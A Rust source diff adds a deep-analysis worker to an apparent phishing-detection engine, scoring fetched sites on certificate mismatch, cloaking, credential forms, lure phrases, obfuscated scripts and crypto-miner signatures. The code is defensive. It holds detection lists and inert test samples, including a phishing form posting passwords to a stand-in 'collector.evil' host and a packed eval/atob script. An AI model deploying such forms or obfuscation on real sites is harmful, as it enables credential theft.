@@ -0,0 +1,603 @@
+use std::sync::Arc;
+use std::time::Duration;
+
+use tracing::{error, info, warn};
+
+use crate::engine::ThreatEngine;
+use crate::models::AnalyzerTask;
+
+/// Background worker that consumes deep-analysis tasks from the Redis queue,
+/// fetches the live site, and records a verdict.
+pub fn spawn_worker(engine: Arc<ThreatEngine>) {
+    if !engine.config().analyzer.enabled {
+        return;
+    }
+    tokio::spawn(async move {
+        info!("analyzer worker started");
+        loop {
+            match engine.redis().dequeue_analyzer_task().await {
+                Ok(Some(task)) => {
+                    if let Err(e) = analyze(&engine, &task).await {
+                        warn!(
+                            domain = %task.domain,
+                            attempt = task.attempts + 1,
+                            error = %e,
+                            "analyzer task failed"
+                        );
+                        let max_retries = engine.config().analyzer.max_retries;
+                        match engine
+                            .redis()
+                            .retry_or_dead_letter(&task, &e.to_string(), max_retries)
+                            .await
+                        {
+                            Ok(true) => warn!(
+                                domain = %task.domain,
+                                task_id = %task.task_id,
+                                "task moved to the dead-letter queue"
+                            ),
+                            Ok(false) => {}
+                            Err(e) => error!(error = %e, "dead-letter handling failed"),
+                        }
+                    }
+                }
+                Ok(None) => {}
+                Err(e) => {
+                    error!(error = %e, "analyzer dequeue failed");
+                    tokio::time::sleep(Duration::from_secs(5)).await;
+                }
+            }
+        }
+    });
+}
+
+async fn analyze(engine: &Arc<ThreatEngine>, task: &AnalyzerTask) -> Result<(), crate::error::AppError> {
+    let timeout = Duration::from_secs(engine.config().analyzer.fetch_timeout_seconds);
+    let client = reqwest::Client::builder()
+        .timeout(timeout)
+        .redirect(reqwest::redirect::Policy::limited(5))
+        .danger_accept_invalid_certs(true)
+        .build()
+        .map_err(|e| crate::error::AppError::Internal(format!("analyzer client: {e}")))?;
+
+    let url = task
+        .url
+        .clone()
+        .unwrap_or_else(|| format!("http://{}/", task.domain));
+
+    let fetch_started = std::time::Instant::now();
+    let (verdict, notes) = match client.get(&url).send().await {
+        Ok(response) => {
+            let response_time_ms = fetch_started.elapsed().as_secs_f64() * 1000.0;
+            let status = response.status();
+            let content_type = response
+                .headers()
+                .get(reqwest::header::CONTENT_TYPE)
+                .and_then(|v| v.to_str().ok())
+                .unwrap_or("")
+                .to_string();
+            let body = response.text().await.unwrap_or_default();
+
+            // Feed the observed response time and content-type mismatch back
+            // into the feature cache so the next score reflects them.
+            let mut updates = std::collections::HashMap::new();
+            updates.insert("response_time_ms".to_string(), response_time_ms as f32);
+            updates.insert(
+                "content_type_suspicious".to_string(),
+                if content_type_suspicious(&content_type, &url) {
+                    1.0
+                } else {
+                    0.0
+                },
+            );
+            // TLS identity: does the served certificate actually cover the
+            // domain we asked for? Cloaking: does the page's canonical link
+            // point somewhere else entirely?
+            if let Some(sans) = fetch_cert_sans(&task.domain, timeout).await {
+                updates.insert(
+                    "cert_san_mismatch".to_string(),
+                    if san_mismatch(&task.domain, &sans) { 1.0 } else { 0.0 },
+                );
+            }
+            if let Some(mismatch) = canonical_host_mismatch(&task.domain, &body) {
+                updates.insert(
+                    "host_mismatch".to_string(),
+                    if mismatch { 1.0 } else { 0.0 },
+                );
+            }
+            // Executable downloads linked from the page raise the same
+            // feature the URL scan sets, so the next score picks them up.
+            let link_risk = download_link_risk(&body);
+            if link_risk > 0.0 {
+                updates.insert("suspicious_file_extensions".to_string(), link_risk);
+            }
+            // DOM-derived credential-harvesting signals, over a bounded
+            // prefix so a giant page cannot stall the worker.
+            updates.extend(form_features(
+                &task.domain,
+                truncate_utf8(&body, MAX_PARSED_HTML_BYTES),
+            ));
+            // Script payload analysis: obfuscation indicators and known
+            // crypto-mining signatures, bounded the same way.
+            updates.extend(script_features(truncate_utf8(&body, MAX_PARSED_HTML_BYTES)));
+            engine.extractor().merge_features(&task.domain, updates).await;
+
+            classify(
+                status.as_u16(),
+                &content_type,
+                &body,
+                engine.config().features.keyword_matching,
+            )
+        }
+        // A timeout is recorded distinctly from a slow-but-successful fetch
+        // (which lands above with its real response_time_ms) and from a
+        // plain connection failure.
+        Err(e) if e.is_timeout() => ("timeout", format!("fetch timed out: {e}")),
+        Err(e) => ("unreachable", format!("fetch failed: {e}")),
+    };
+
+    engine
+        .storage()
+        .log_analyzer_result(&task.task_id, &task.domain, verdict, &notes)
+        .await?;
+    if let Err(e) = engine
+        .redis()
+        .store_deep_verdict(
+            &task.domain,
+            verdict,
+            engine.config().analyzer.verdict_ttl_seconds,
+        )
+        .await
+    {
+        warn!(domain = %task.domain, error = %e, "failed to cache deep verdict");
+    }
+    info!(domain = %task.domain, verdict, "analyzer verdict recorded");
+    Ok(())
+}
+
+/// Fetch the DNS SANs from the certificate the domain serves on 443.
+/// Verification is deliberately disabled — we want the presented identity,
+/// valid or not. `None` when the domain has no reachable TLS endpoint.
+async fn fetch_cert_sans(domain: &str, timeout: Duration) -> Option<Vec<String>> {
+    let config = crate::storage::tls::no_verify_config();
+    let connector = tokio_rustls::TlsConnector::from(Arc::new(config));
+    let stream = tokio::time::timeout(timeout, tokio::net::TcpStream::connect((domain, 443)))
+        .await
+        .ok()?
+        .ok()?;
+    let server_name = rustls::ServerName::try_from(domain).ok()?;
+    let tls = tokio::time::timeout(timeout, connector.connect(server_name, stream))
+        .await
+        .ok()?
+        .ok()?;
+    let (_, session) = tls.get_ref();
+    let cert = session.peer_certificates()?.first()?;
+    let (_, parsed) = x509_parser::parse_x509_certificate(cert.as_ref()).ok()?;
+    let mut sans = Vec::new();
+    if let Ok(Some(ext)) = parsed.subject_alternative_name() {
+        for name in &ext.value.general_names {
+            if let x509_parser::extensions::GeneralName::DNSName(dns) = name {
+                sans.push(dns.to_string());
+            }
+        }
+    }
+    Some(sans)
+}
+
+/// True when none of the certificate's SAN entries cover `domain`. A
+/// wildcard covers exactly one label, per RFC 6125.
+fn san_mismatch(domain: &str, sans: &[String]) -> bool {
+    !sans.iter().any(|san| san_covers(domain, san))
+}
+
+fn san_covers(domain: &str, san: &str) -> bool {
+    let san = san.to_ascii_lowercase();
+    let domain = domain.to_ascii_lowercase();
+    if let Some(suffix) = san.strip_prefix("*.") {
+        match domain.split_once('.') {
+            Some((label, parent)) => !label.is_empty() && parent == suffix,
+            None => false,
+        }
+    } else {
+        domain == san
+    }
+}
+
+/// Compare the page's canonical link host against the analyzed domain.
+/// `None` when the page declares no canonical link; `Some(true)` when it
+/// points at an unrelated host (typical of cloaked or copied kits).
+/// HTML beyond this prefix is ignored by the DOM parse; parse time is
+/// bounded by bounding the input.
+const MAX_PARSED_HTML_BYTES: usize = 512 * 1024;
+
+/// Phrases that pressure the visitor into acting before thinking.
+const URGENCY_PHRASES: &[&str] = &[
+    "act now",
+    "immediately",
+    "urgent",
+    "within 24 hours",
+    "account suspended",
+    "account will be locked",
+    "verify your account",
+    "limited time",
+    "final notice",
+];
+
+/// Classic credential-harvesting lures beyond plain urgency.
+const SOCIAL_ENGINEERING_PHRASES: &[&str] = &[
+    "confirm your password",
+    "re-enter your password",
+    "unusual activity",
+    "security alert",
+    "update your payment",
+    "social security number",
+    "card number",
+];
+
+/// Links a legitimate login page almost always carries.
+const TRUST_INDICATOR_TERMS: &[&str] = &["privacy", "terms", "contact"];
+
+fn truncate_utf8(s: &str, max: usize) -> &str {
+    if s.len() <= max {
+        return s;
+    }
+    let mut end = max;
+    while !s.is_char_boundary(end) {
+        end -= 1;
+    }
+    &s[..end]
+}
+
+/// Parse the page and derive the form/credential-harvesting features:
+/// form and input counts, urgency/social-engineering phrase hits (password
+/// forms posting cross-origin count as a strong indicator), and whether a
+/// page asking for a password lacks the usual trust links.
+fn form_features(domain: &str, html: &str) -> std::collections::HashMap<String, f32> {
+    use scraper::{Html, Selector};
+
+    let doc = Html::parse_document(html);
+    let form_sel = Selector::parse("form").expect("static selector");
+    let input_sel = Selector::parse("input").expect("static selector");
+    let password_sel = Selector::parse("input[type=password]").expect("static selector");
+    let link_sel = Selector::parse("a").expect("static selector");
+
+    let form_count = doc.select(&form_sel).count();
+    let input_count = doc.select(&input_sel).count();
+    let has_password_field = doc.select(&password_sel).next().is_some();
+
+    // A password form whose action posts to a foreign host is the single
+    // strongest harvesting signal a page can carry.
+    let cross_origin_password = doc.select(&form_sel).any(|form| {
+        if form.select(&password_sel).next().is_none() {
+            return false;
+        }
+        form.value()
+            .attr("action")
+            .and_then(|action| url::Url::parse(action).ok())
+            .and_then(|u| u.host_str().map(str::to_ascii_lowercase))
+            .is_some_and(|host| host != domain && !host.ends_with(&format!(".{domain}")))
+    });
+
+    let text = doc
+        .root_element()
+        .text()
+        .collect::<String>()
+        .to_ascii_lowercase();
+    let phrase_hits = |phrases: &[&str]| {
+        phrases.iter().filter(|p| text.contains(*p)).count() as f32
+    };
+
+    let trust_links_present = doc.select(&link_sel).any(|a| {
+        let target = format!(
+            "{} {}",
+            a.value().attr("href").unwrap_or(""),
+            a.text().collect::<String>()
+        )
+        .to_ascii_lowercase();
+        TRUST_INDICATOR_TERMS.iter().any(|t| target.contains(t))
+    });
+
+    std::collections::HashMap::from([
+        ("form_count".to_string(), form_count as f32),
+        ("input_field_count".to_string(), input_count as f32),
+        (
+            "social_engineering_indicators".to_string(),
+            phrase_hits(SOCIAL_ENGINEERING_PHRASES)
+                + if cross_origin_password { 2.0 } else { 0.0 },
+        ),
+        ("urgency_language".to_string(), phrase_hits(URGENCY_PHRASES)),
+        (
+            "trust_indicators_missing".to_string(),
+            if has_password_field && !trust_links_present {
+                1.0
+            } else {
+                0.0
+            },
+        ),
+    ])
+}
+
+/// Script analysis is bounded: at most this many `<script>` elements, each
+/// body truncated to this many bytes.
+const MAX_ANALYZED_SCRIPTS: usize = 20;
+const MAX_SCRIPT_BYTES: usize = 128 * 1024;
+
+/// Markers of in-browser crypto miners (CoinHive lineage and the common
+/// WASM CryptoNight ports), matched against script sources and bodies.
+const MINING_SIGNATURES: &[&str] = &[
+    "coinhive",
+    "coin-hive",
+    "cryptonight",
+    "coinimp",
+    "crypto-loot",
+    "cryptoloot",
+    "webminepool",
+    "deepminer",
+    "wasmminer",
+];
+
+/// Obfuscation and mining signals from the page's `<script>` elements:
+/// `javascript_obfuscated` is the worst per-script score in [0, 1], and
+/// `crypto_mining_scripts` counts matched mining signatures across bodies
+/// and `src` attributes. Scripts past the caps are ignored.
+fn script_features(html: &str) -> std::collections::HashMap<String, f32> {
+    use scraper::{Html, Selector};
+
+    let doc = Html::parse_document(html);
+    let script_sel = Selector::parse("script").expect("static selector");
+
+    let mut obfuscation = 0.0f32;
+    let mut mining_hits = 0usize;
+    for script in doc.select(&script_sel).take(MAX_ANALYZED_SCRIPTS) {
+        if let Some(src) = script.value().attr("src") {
+            let src = src.to_ascii_lowercase();
+            mining_hits += MINING_SIGNATURES.iter().filter(|s| src.contains(*s)).count();
+        }
+        let source: String = script.text().collect();
+        let source = truncate_utf8(&source, MAX_SCRIPT_BYTES);
+        if source.trim().is_empty() {
+            continue;
+        }
+        obfuscation = obfuscation.max(obfuscation_score(source));
+        let lower = source.to_ascii_lowercase();
+        mining_hits += MINING_SIGNATURES.iter().filter(|s| lower.contains(*s)).count();
+    }
+
+    std::collections::HashMap::from([
+        ("javascript_obfuscated".to_string(), obfuscation),
+        ("crypto_mining_scripts".to_string(), mining_hits as f32),
+    ])
+}
+
+/// Score one script body for obfuscation in [0, 1]. Four independent
+/// indicators contribute a quarter each: a very long single line (packed
+/// code is rarely wrapped), high character entropy, dense decoder calls
+/// (`eval`/`unescape`/`atob`/`fromCharCode`), and heavy hex or unicode
+/// escape sequences.
+fn obfuscation_score(source: &str) -> f32 {
+    let mut score = 0.0f32;
+    if source.lines().map(str::len).max().unwrap_or(0) > 1000 {
+        score += 0.25;
+    }
+    if crate::features::calculate_entropy(source) > 5.2 {
+        score += 0.25;
+    }
+    let lower = source.to_ascii_lowercase();
+    let decoder_calls: usize = ["eval(", "unescape(", "atob(", "fromcharcode"]
+        .iter()
+        .map(|needle| lower.matches(needle).count())
+        .sum();
+    let kib = (source.len() as f32 / 1024.0).max(1.0);
+    if decoder_calls as f32 / kib >= 1.0 {
+        score += 0.25;
+    }
+    let escapes = source.matches("\\x").count() + source.matches("\\u").count();
+    if escapes * 50 > source.len() {
+        score += 0.25;
+    }
+    score.min(1.0)
+}
+
+/// Highest file-extension risk among links discovered in the page body.
+/// Splitting each target on path and query delimiters catches both direct
+/// links and query-disguised downloads.
+fn download_link_risk(body: &str) -> f32 {
+    let lower = body.to_ascii_lowercase();
+    let mut risk = 0.0f32;
+    for chunk in lower.split("href=\"").skip(1) {
+        let Some(end) = chunk.find('"') else { continue };
+        for part in chunk[..end].split(['?', '&', '=']) {
+            risk = risk.max(crate::features::file_extension_risk(part));
+        }
+    }
+    risk
+}
+
+fn canonical_host_mismatch(domain: &str, body: &str) -> Option<bool> {
+    let lower = body.to_ascii_lowercase();
+    let rel_pos = lower.find("rel=\"canonical\"")?;
+    let tag_start = lower[..rel_pos].rfind('<')?;
+    let tag_end = lower[rel_pos..].find('>')? + rel_pos;
+    let tag = &lower[tag_start..tag_end];
+    let href_pos = tag.find("href=\"")? + "href=\"".len();
+    let href_end = tag[href_pos..].find('"')? + href_pos;
+    let host = url::Url::parse(&tag[href_pos..href_end])
+        .ok()?
+        .host_str()?
+        .to_string();
+    Some(host != domain && !host.ends_with(&format!(".{domain}")))
+}
+
+/// A content type is suspicious when an HTML-looking URL is served as a raw
+/// byte stream, or when the server hands out executable content outright.
+fn content_type_suspicious(content_type: &str, url: &str) -> bool {
+    let content_type = content_type
+        .split(';')
+        .next()
+        .unwrap_or("")
+        .trim()
+        .to_ascii_lowercase();
+    const EXECUTABLE_TYPES: &[&str] = &[
+        "application/x-msdownload",
+        "application/x-executable",
+        "application/x-msdos-program",
+        "application/vnd.microsoft.portable-executable",
+    ];
+    if EXECUTABLE_TYPES.contains(&content_type.as_str()) {
+        return true;
+    }
+    let path = url::Url::parse(url)
+        .map(|u| u.path().to_string())
+        .unwrap_or_default();
+    let looks_like_page =
+        path.ends_with('/') || path.ends_with(".html") || path.ends_with(".htm") || path.is_empty();
+    looks_like_page && content_type == "application/octet-stream"
+}
+
+/// Coarse verdict from the fetched page. The heavy content detectors hang
+/// off this entry point as they land.
+fn classify(
+    status: u16,
+    content_type: &str,
+    body: &str,
+    keyword_matching: crate::config::KeywordMatching,
+) -> (&'static str, String) {
+    if status >= 400 {
+        return ("unreachable", format!("HTTP {status}"));
+    }
+    let keyword_hits = crate::features::count_suspicious_keywords(body, keyword_matching);
+    if keyword_hits >= 5 && body.contains("<form") {
+        return (
+            "suspicious",
+            format!("{keyword_hits} phishing keywords with a form present"),
+        );
+    }
+    (
+        "benign",
+        format!("HTTP {status}, content-type {content_type}"),
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{canonical_host_mismatch, content_type_suspicious, san_mismatch};
+
+    #[test]
+    fn san_matching_covers_exact_and_single_level_wildcards() {
+        let sans = vec!["example.com".to_string(), "*.example.com".to_string()];
+        assert!(!san_mismatch("example.com", &sans));
+        assert!(!san_mismatch("login.example.com", &sans));
+        assert!(!san_mismatch("LOGIN.EXAMPLE.COM", &sans));
+        // A wildcard covers one label only, and siblings never match.
+        assert!(san_mismatch("a.b.example.com", &sans));
+        assert!(san_mismatch("evil.com", &sans));
+        assert!(san_mismatch("example.com", &[]));
+    }
+
+    #[test]
+    fn canonical_link_to_foreign_host_is_a_mismatch() {
+        let page = r#"<html><head><link rel="canonical" href="https://paypal.com/login"></head></html>"#;
+        assert_eq!(canonical_host_mismatch("paypa1-login.com", page), Some(true));
+        assert_eq!(canonical_host_mismatch("paypal.com", page), Some(false));
+        assert_eq!(canonical_host_mismatch("example.com", "<html></html>"), None);
+    }
+
+    #[test]
+    fn phishing_form_page_sets_harvesting_features() {
+        let page = r#"<html><body>
+            <p>Your account suspended! Verify your account immediately.</p>
+            <form action="https://collector.evil/steal" method="post">
+                <input type="text" name="user">
+                <input type="password" name="pass">
+            </form>
+        </body></html>"#;
+        let features = super::form_features("bank-login.example", page);
+        assert_eq!(features["form_count"], 1.0);
+        assert_eq!(features["input_field_count"], 2.0);
+        // Cross-origin password post alone scores 2.0.
+        assert!(features["social_engineering_indicators"] >= 2.0);
+        assert!(features["urgency_language"] >= 2.0);
+        assert_eq!(features["trust_indicators_missing"], 1.0);
+    }
+
+    #[test]
+    fn benign_login_page_stays_quiet() {
+        let page = r#"<html><body>
+            <form action="/session" method="post">
+                <input type="password" name="pass">
+            </form>
+            <a href="/privacy">Privacy policy</a>
+        </body></html>"#;
+        let features = super::form_features("example.com", page);
+        assert_eq!(features["social_engineering_indicators"], 0.0);
+        assert_eq!(features["urgency_language"], 0.0);
+        assert_eq!(features["trust_indicators_missing"], 0.0);
+    }
+
+    #[test]
+    fn packed_script_scores_obfuscated_while_clean_code_stays_at_zero() {
+        // One unwrapped line of hex escapes behind a decoder chain: three
+        // of the four indicators fire.
+        let blob = "\\x6d\\x61\\x6c".repeat(300);
+        let packed = format!("eval(unescape(atob('{blob}')))");
+        assert!(super::obfuscation_score(&packed) >= 0.5);
+
+        let clean = "function greet(name) {\n  return 'hello ' + name;\n}\n";
+        assert_eq!(super::obfuscation_score(clean), 0.0);
+    }
+
+    #[test]
+    fn mining_signatures_are_counted_across_bodies_and_sources() {
+        let page = r#"<html><body>
+            <script src="https://coinhive.com/lib/coinhive.min.js"></script>
+            <script>var miner = new CryptoNight.Anonymous('site-key');</script>
+            <script>console.log("unrelated")</script>
+        </body></html>"#;
+        let features = super::script_features(page);
+        assert!(features["crypto_mining_scripts"] >= 2.0);
+
+        let clean = super::script_features("<html><script>console.log(1)</script></html>");
+        assert_eq!(clean["crypto_mining_scripts"], 0.0);
+        assert_eq!(clean["javascript_obfuscated"], 0.0);
+    }
+
+    #[test]
+    fn oversized_html_is_truncated_on_a_char_boundary() {
+        let body = "é".repeat(10);
+        let truncated = super::truncate_utf8(&body, 5);
+        assert_eq!(truncated, "éé");
+    }
+
+    #[test]
+    fn linked_executables_raise_download_risk() {
+        let page = r#"<a href="/files/invoice.pdf.exe">invoice</a>
+                      <a href="/docs/report.pdf">report</a>"#;
+        assert_eq!(super::download_link_risk(page), 1.0);
+        assert_eq!(
+            super::download_link_risk(r#"<a href="/docs/report.pdf">report</a>"#),
+            0.0
+        );
+        assert!(
+            super::download_link_risk(r#"<a href="/get?file=setup.apk">app</a>"#) > 0.5
+        );
+    }
+
+    #[test]
+    fn flags_executable_and_mismatched_content_types() {
+        assert!(content_type_suspicious(
+            "application/x-msdownload",
+            "http://example.com/update.html"
+        ));
+        assert!(content_type_suspicious(
+            "application/octet-stream",
+            "http://example.com/"
+        ));
+        assert!(!content_type_suspicious(
+            "text/html; charset=utf-8",
+            "http://example.com/"
+        ));
+        assert!(!content_type_suspicious(
+            "application/octet-stream",
+            "http://example.com/file.bin"
+        ));
+    }
+}